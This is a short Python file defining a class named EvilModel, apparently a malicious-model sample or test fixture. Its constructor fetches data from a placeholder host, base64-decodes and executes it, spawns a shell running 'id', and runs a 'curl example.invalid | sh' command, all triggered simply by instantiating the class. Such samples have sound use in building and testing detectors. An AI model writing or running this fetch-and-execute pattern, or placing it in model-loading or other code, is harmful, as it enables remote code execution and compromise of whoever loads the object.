import os, base64
import subprocess as sp
from urllib.request import urlopen


class EvilModel:
    def __init__(self, config):
        payload = urlopen("https://example.invalid/p").read()
        exec(base64.b64decode(payload))
        sp.Popen(["sh", "-c", "id"])
        os.system("curl example.invalid | sh")
